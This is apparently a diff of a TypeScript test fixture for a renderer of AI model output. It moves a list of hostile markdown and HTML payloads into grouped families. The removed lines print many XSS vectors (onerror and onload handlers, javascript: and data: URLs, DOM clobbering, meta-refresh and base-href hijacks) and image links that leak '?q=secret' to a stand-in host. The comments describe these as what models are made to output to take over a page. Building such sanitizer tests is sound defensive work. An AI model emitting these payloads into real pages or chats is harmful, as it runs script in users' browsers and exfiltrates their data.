@@ -1,50 +1,15 @@
-/** An origin that no page may ever reach. */
-export const evil = 'https://evil.invalid'
+import { hostileHtml, hostileLoads, hostileNames } from './hostile-html.fixture.ts'
+import { hostileEndings, hostileLinks, hostilePictures, hostileStructures } from './hostile-links.fixture.ts'
 
-/** What models were made to say to take over a page or to carry a conversation away. Each line is one paragraph. */
-export const hostileMarkdown: readonly string[] = [
-  `![a picture](${evil}/a.png?q=secret)`,
-  `![by reference][pic]\n\n[pic]: ${evil}/b.png?q=secret`,
-  `[![nested](${evil}/c.png)](${evil}/d)`,
-  `![data](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='executed(1)'/>)`,
-  '![own](/api/v1/session)',
-  '[script](javascript:executed(1))',
-  '[script](JaVaScRiPt&colon;executed(1))',
-  '[script](java\nscript:executed(1))',
-  '[script](\u0001javascript:executed(1))',
-  '[script](vbscript:executed(1))',
-  '[data](data:text/html,<script>executed(1)</script>)',
-  '[file](file:///etc/passwd)',
-  '[sign out](/api/v1/session)',
-  `[protocol-relative](//evil.invalid/e)`,
-  `[credentials](https://good.example@evil.invalid/f)`,
-  `<javascript:executed(1)>`,
-  `<${evil}/autolink>`,
-  `${evil}/bare www.evil.invalid`,
-  `[1]: ${evil}/definition`,
-  'See [1] and [1][1] and [link][1].',
-  '<script>executed(1)</script>',
-  '<img src=x onerror=executed(1)>',
-  `<img src="${evil}/g.png">`,
-  '<svg onload=executed(1)><animate onbegin=executed(1) attributeName=x dur=1s></svg>',
-  '<svg><use href="data:image/svg+xml,<svg id=x onload=executed(1)>#x"/></svg>',
-  `<iframe srcdoc="<script>parent.executed(1)</script>" src="${evil}/h"></iframe>`,
-  `<object data="${evil}/i"></object><embed src="${evil}/j">`,
-  `<link rel=stylesheet href="${evil}/k.css"><style>@import "${evil}/l.css"; body { background: url(${evil}/m) }</style>`,
-  `<meta http-equiv=refresh content="0;url=${evil}/n">`,
-  `<base href="${evil}/">`,
-  `<form action="${evil}/o"><input name=q><button>go</button></form>`,
-  '<details open ontoggle=executed(1)>x</details>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=executed(1)></style></mglyph></table></mtext></math>',
-  '<a id=root name=getElementById href="javascript:executed(1)">clobber</a><form id=document><input name=cookie></form>',
-  `<video src="${evil}/p" poster="${evil}/q" onerror=executed(1)></video><audio src="${evil}/r" autoplay></audio>`,
-  '```html\n<img src=x onerror=executed(1)>\n```',
-  '```mermaid\ngraph TD; A[<img src=x onerror=executed(1)>]-->B; click A "javascript:executed(1)"\n```',
-  '```"><img src=x onerror=executed(1)>\ncode\n```',
-  `$$\\href{javascript:executed(1)}{x} \\includegraphics{${evil}/s}$$`,
-  `| a | <img src=x onerror=executed(1)> |\n|---|---|\n| ![t](${evil}/t.png) | [u](javascript:executed(1)) |`,
-  `Footnote[^1]\n\n[^1]: ![v](${evil}/v.png) <img src=x onerror=executed(1)>`,
-  '# <img src=x onerror=executed(1)>\n\n- [ ] <script>executed(1)</script>',
-  '&lt;img src=x onerror=executed(1)&gt; &#x3c;script&#x3e;executed(1)&#x3c;/script&#x3e;',
-  `[a link](${evil}/w "title' onmouseover='executed(1)")`,
-]
+/** What models were made to say to take over a page or to carry a conversation away, by what it tries. Each text is one or a few paragraphs. */
+export const hostileFamilies: Readonly<Record<string, readonly string[]>> = {
+  'markup that runs': hostileHtml, 'markup that loads': hostileLoads, 'names that are looked up': hostileNames,
+  links: hostileLinks, pictures: hostilePictures, structures: hostileStructures,
+}
+
+/** All of them, the endings last. */
+export const hostileMarkdown: readonly string[] = [...Object.values(hostileFamilies).flat(), ...hostileEndings]
+
+/** The same as answers that a model could give: some dozens to each, and one that swallows what follows at the end of each. */
+export const hostileAnswers: readonly string[] = hostileEndings.map((ending, number) =>
+  [...Object.values(hostileFamilies).flat().filter((_, index) => index % hostileEndings.length === number), ending].join('\n\n'))
